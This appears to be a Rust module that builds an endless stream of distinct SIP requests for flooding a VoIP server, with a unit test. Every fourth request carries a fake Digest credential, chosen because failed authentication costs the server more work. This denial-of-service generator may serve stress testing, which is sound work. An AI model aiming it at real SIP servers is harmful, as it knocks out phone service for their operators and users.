//! What a flood says: a sound request without a password, each with names of its own.

/// Digits of the names.
const DIGITS: usize = 16;
/// Stands where they are written.
const HERE: &str = "################";
/// Every so-manyth request shows credentials that are wrong, for these cost the server more.
const SHOWS: u64 = 4;

/// Requests of one method.
#[derive(Clone, Debug)]
pub struct Shot {
    plain: Form,
    shown: Form,
    serial: u64,
}

#[derive(Clone, Debug)]
struct Form {
    octets: Vec<u8>,
    places: Vec<usize>,
}

impl Form {
    fn new(text: &str) -> Form {
        Form {
            octets: text.as_bytes().to_vec(),
            places: text.match_indices(HERE).map(|(at, _)| at).collect(),
        }
    }

    fn number(&mut self, serial: u64) -> &[u8] {
        let digits = format!("{serial:0width$x}", width = DIGITS);
        for at in &self.places {
            if let Some(place) = self.octets.get_mut(*at..*at + DIGITS) {
                place.copy_from_slice(digits.as_bytes());
            }
        }
        &self.octets
    }
}

impl Shot {
    /// Requests to users of a domain. Another `series` has other names.
    #[must_use]
    pub fn new(method: &str, domain: &str, via: &str, series: u64) -> Shot {
        let form = |more: &str| Form::new(&request(method, domain, via, more));
        let realm = format!("realm=\"{domain}\", nonce=\"{HERE}{HERE}\", uri=\"sip:{domain}\"");
        let wrong = format!(
            "Authorization: Digest username=\"{HERE}\", {realm}, algorithm=MD5, response=\"{HERE}{HERE}\"\r\n"
        );
        Shot {
            plain: form(""),
            shown: form(&wrong),
            serial: (std::process::id() as u64) << 40 | series << 32,
        }
    }

    /// The next one.
    #[expect(
        clippy::should_implement_trait,
        reason = "a stream without an end that lends what it makes is no iterator"
    )]
    pub fn next(&mut self) -> &[u8] {
        self.serial = self.serial.wrapping_add(1);
        let form = match self.serial % SHOWS {
            0 => &mut self.shown,
            _ => &mut self.plain,
        };
        form.number(self.serial)
    }
}

fn request(method: &str, domain: &str, via: &str, more: &str) -> String {
    let (target, extra, body) = match method {
        "REGISTER" => (format!("sip:{domain}"), "Expires: 3600\r\n".to_owned(), ""),
        "SUBSCRIBE" => (
            format!("sip:101@{domain}"),
            "Event: dialog\r\nExpires: 3600\r\nAccept: application/dialog-info+xml\r\n".to_owned(),
            "",
        ),
        "INVITE" => (
            format!("sip:101@{domain}"),
            "Content-Type: application/sdp\r\n".to_owned(),
            "v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=-\r\nc=IN IP4 192.0.2.1\r\nt=0 0\r\nm=audio 4000 RTP/AVP 0 8\r\n",
        ),
        _ => (format!("sip:101@{domain}"), String::new(), ""),
    };
    format!(
        "{method} {target} SIP/2.0\r\nVia: SIP/2.0/{via} 192.0.2.1:5060;branch=z9hG4bK{HERE};rport\r\nMax-Forwards: 70\r\n\
         From: <sip:100@{domain}>;tag={HERE}\r\nTo: <{target}>\r\nCall-ID: {HERE}\r\nCSeq: 1 {method}\r\n\
         Contact: <sip:100@192.0.2.1:5060>\r\n{extra}{more}Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_two_are_alike_and_all_are_whole() {
        for method in ["REGISTER", "INVITE", "OPTIONS", "SUBSCRIBE"] {
            let mut shot = Shot::new(method, "acme.test", "UDP", 7);
            let all: std::collections::BTreeSet<Vec<u8>> = (0..8).map(|_| shot.next().to_vec()).collect();
            assert_eq!(all.len(), 8);
            assert!(all.iter().all(|octets| !octets.contains(&b'#')));
            let shown = all
                .iter()
                .filter(|octets| String::from_utf8_lossy(octets).contains("Digest"));
            assert_eq!(shown.count(), 2);
        }
    }
}
